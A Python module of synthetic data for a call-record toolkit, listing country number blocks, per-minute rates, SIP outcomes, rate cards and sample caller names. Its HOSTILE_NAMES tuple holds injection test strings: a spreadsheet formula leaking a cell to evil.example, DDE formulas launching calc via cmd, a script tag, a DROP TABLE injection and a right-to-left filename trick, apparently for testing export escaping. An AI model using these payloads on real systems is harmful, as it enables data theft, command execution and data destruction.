"""The countries, outcomes, rate cards and names of sample calls."""

from __future__ import annotations

from typing import Final

import attrs

from cdrkit._model import Disposition

__all__ = [
    "ANSWERED",
    "CARDS",
    "CODECS",
    "HOSTILE_NAMES",
    "LOST_RACE",
    "NAMES",
    "OUTCOMES",
    "PROVIDERS",
    "REGIONS",
    "SWITCHES",
    "WEEKDAY",
    "WEEKEND_SHARE",
    "Card",
    "Outcome",
    "Place",
    "Provider",
    "Region",
]

# Relative number of calls in each local hour of a weekday; 10-12 and 14-16 are the peaks.
WEEKDAY: Final = (
    4, 3, 2, 2, 2, 4, 10, 28, 70, 130, 170, 160, 110, 120, 165, 155, 130, 95, 55, 36, 28, 20, 12, 7,
)  # fmt: skip
WEEKEND_SHARE: Final = 5  # a fifth of a weekday


@attrs.frozen
class Place:
    """A block of telephone numbers.

    Attributes:
        prefix: The first E.164 digits.
        digits: The count of digits that follow the prefix.
        code: The rate deck's code.
        name: The rate deck's name.
        rate: The price of a minute, in millionths of the currency.
    """

    prefix: int
    digits: int
    code: str
    name: str
    rate: int


@attrs.frozen
class Region:
    """A country: its numbering plan, its time zone and its blocks of numbers.

    Attributes:
        calling_code: The calling code.
        trunk: The prefix dialled before a national number.
        exit: The prefix dialled before a foreign calling code.
        zone: IANA name of the time zone.
        currency: ISO 4217 code of the usual currency.
        own: The first E.164 digits of the customers' own numbers.
        popular: Four small blocks whose numbers have many calls.
        wide: Large blocks.
    """

    calling_code: str
    trunk: str
    exit: str
    zone: str
    currency: str
    own: int
    popular: tuple[Place, Place, Place, Place]
    wide: tuple[Place, ...]


REGIONS: Final[dict[str, Region]] = {
    "GB": Region(
        "44", "0", "00", "Europe/London", "GBP", 442081,
        (
            Place(442079460, 3, "44-20", "United Kingdom, London", 6_200),
            Place(441632960, 3, "44-1", "United Kingdom, geographic", 6_900),
            Place(447700900, 3, "44-77", "United Kingdom, mobile", 18_400),
            Place(441134960, 3, "44-113", "United Kingdom, Leeds", 6_700),
        ),
        (
            Place(442070, 6, "44-20", "United Kingdom, London", 6_200),
            Place(441632, 6, "44-1", "United Kingdom, geographic", 6_900),
            Place(447700, 6, "44-77", "United Kingdom, mobile", 18_400),
            Place(447900, 6, "44-79", "United Kingdom, mobile", 18_400),
            Place(441214, 6, "44-121", "United Kingdom, Birmingham", 6_700),
        ),
    ),
    "US": Region(
        "1", "1", "011", "America/New_York", "USD", 16465,
        (
            Place(121255501, 2, "1-212", "United States, New York", 5_100),
            Place(131255501, 2, "1-312", "United States, Illinois", 5_100),
            Place(141555501, 2, "1-415", "United States, California", 5_300),
            Place(120655501, 2, "1-206", "United States, Washington", 5_300),
        ),
        (
            Place(12125, 6, "1-212", "United States, New York", 5_100),
            Place(13125, 6, "1-312", "United States, Illinois", 5_100),
            Place(14155, 6, "1-415", "United States, California", 5_300),
        ),
    ),
    "DE": Region(
        "49", "0", "00", "Europe/Berlin", "EUR", 493023,
        (
            Place(493023125, 3, "49-30", "Germany, Berlin", 8_000),
            Place(494066969, 3, "49-40", "Germany, Hamburg", 8_000),
            Place(498999998, 3, "49-89", "Germany, Munich", 8_000),
            Place(4917139200, 2, "49-17", "Germany, mobile", 21_500),
        ),
        (
            Place(493090, 6, "49-30", "Germany, Berlin", 8_000),
            Place(494066, 6, "49-40", "Germany, Hamburg", 8_000),
            Place(491713, 7, "49-17", "Germany, mobile", 21_500),
        ),
    ),
    "FR": Region(
        "33", "0", "00", "Europe/Paris", "EUR", 33170,
        (
            Place(3319900, 4, "33-1", "France, Paris", 7_400),
            Place(3326191, 4, "33-2", "France, north-west", 7_400),
            Place(3335301, 4, "33-3", "France, north-east", 7_400),
            Place(3363998, 4, "33-6", "France, mobile", 19_900),
        ),
        (
            Place(33140, 6, "33-1", "France, Paris", 7_400),
            Place(33261, 6, "33-2", "France, north-west", 7_400),
            Place(33639, 6, "33-6", "France, mobile", 19_900),
        ),
    ),
    "AU": Region(
        "61", "0", "0011", "Australia/Sydney", "AUD", 61280,
        (
            Place(6125550, 4, "61-2", "Australia, Sydney", 14_000),
            Place(6135550, 4, "61-3", "Australia, Melbourne", 14_000),
            Place(6175550, 4, "61-7", "Australia, Brisbane", 14_000),
            Place(61491570, 3, "61-4", "Australia, mobile", 33_000),
        ),
        (
            Place(61290, 6, "61-2", "Australia, Sydney", 14_000),
            Place(61390, 6, "61-3", "Australia, Melbourne", 14_000),
            Place(61491, 6, "61-4", "Australia, mobile", 33_000),
        ),
    ),
}  # fmt: skip


@attrs.frozen
class Outcome:
    """A possible outcome of a call attempt.

    Attributes:
        share: The share of this outcome, in thousandths of the calls.
        disposition: The outcome in words common to all switches.
        sip_code: The final SIP status.
        sip_reason: The text of the SIP status.
        q850_cause: The Q.850 cause.
        release_reason: The switch's own word for the disposition.
        shortest_ring: The least ringing time, in milliseconds.
        longest_ring: The greatest ringing time, in milliseconds.
    """

    share: int
    disposition: Disposition
    sip_code: int
    sip_reason: str
    q850_cause: int
    release_reason: str
    shortest_ring: int
    longest_ring: int


OUTCOMES: Final = (
    Outcome(469, Disposition.ANSWERED, 200, "OK", 16, "NORMAL_CLEARING", 1_500, 19_500),
    Outcome(150, Disposition.NO_ANSWER, 480, "Temporarily Unavailable", 19, "NO_ANSWER", 20_000, 60_000),
    Outcome(
        50, Disposition.NO_ANSWER, 408, "Request Timeout", 102, "RECOVERY_ON_TIMER_EXPIRE", 25_000, 40_000
    ),
    Outcome(102, Disposition.BUSY, 486, "Busy Here", 17, "USER_BUSY", 200, 2_500),
    Outcome(113, Disposition.CANCELLED, 487, "Request Terminated", 16, "ORIGINATOR_CANCEL", 1_000, 28_000),
    Outcome(30, Disposition.REJECTED, 603, "Decline", 21, "CALL_REJECTED", 800, 9_000),
    Outcome(12, Disposition.REJECTED, 403, "Forbidden", 21, "CALL_REJECTED", 20, 300),
    Outcome(34, Disposition.FAILED, 404, "Not Found", 1, "UNALLOCATED_NUMBER", 20, 900),
    Outcome(18, Disposition.FAILED, 503, "Service Unavailable", 34, "NORMAL_CIRCUIT_CONGESTION", 20, 1_500),
    Outcome(14, Disposition.FAILED, 484, "Address Incomplete", 28, "INVALID_NUMBER_FORMAT", 20, 300),
    Outcome(8, Disposition.FAILED, 500, "Server Internal Error", 41, "NORMAL_TEMPORARY_FAILURE", 20, 3_000),
    # A leg that ended because another leg of the call answered first.
    Outcome(0, Disposition.CANCELLED, 487, "Request Terminated", 26, "LOSE_RACE", 0, 0),
)
ANSWERED: Final = 0
LOST_RACE: Final = len(OUTCOMES) - 1


@attrs.frozen
class Card:
    """A rate card: the rules by which calls are billed.

    Attributes:
        id: The identifier.
        least: The least billed duration, in seconds.
        step: The increment of the billed duration, in seconds.
        connect_cost: The price of a connected call, in millionths of the currency.
    """

    id: str
    least: int
    step: int
    connect_cost: int


CARDS: Final = (
    Card("CARD-STD", 1, 1, 0),
    Card("CARD-60-6", 60, 6, 0),
    Card("CARD-60-60", 60, 60, 0),
    Card("CARD-30-6", 30, 6, 15_000),
)


@attrs.frozen
class Provider:
    """A carrier that bills by the second.

    Attributes:
        id: The identifier.
        share: The carrier's rate, in hundredths of the customer's rate.
    """

    id: str
    share: int


PROVIDERS: Final = (
    Provider("P01", 62),
    Provider("P02", 58),
    Provider("P03", 71),
    Provider("P04", 66),
    Provider("P05", 80),
    Provider("P06", 55),
)
SWITCHES: Final = ("sbc1", "sbc2", "pbx1", "pbx2")
CODECS: Final = ("PCMA",) * 6 + ("PCMU", "G729", "G722", "opus")
NAMES: Final = (
    "Alice Example", "Bob Sample", "Reception", "ACME Ltd", "Dr. Q. Placeholder", "Zoë Müller", "Help Desk",
    "O'Neil, Pat", "Łukasz Wzór", "MOBILE", "Sales (North)", "José Ejemplo", "Unknown Caller", "Warehouse 7",
    "Kim Test", "Accounts",
)  # fmt: skip
HOSTILE_NAMES: Final = (
    '=HYPERLINK("http://evil.example/?"&A1,"Call back")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    'She said "hello", twice',
    "First line\nsecond line",
    "a,b;c\td",
    "\N{TELEPHONE RECEIVER}\N{PARTY POPPER} Party Line",
    "\N{RIGHT-TO-LEFT OVERRIDE}gnp.exe",
    "שלום עולם",
    "<script>alert(1)</script>",
    "'; DROP TABLE cdr; --",
)
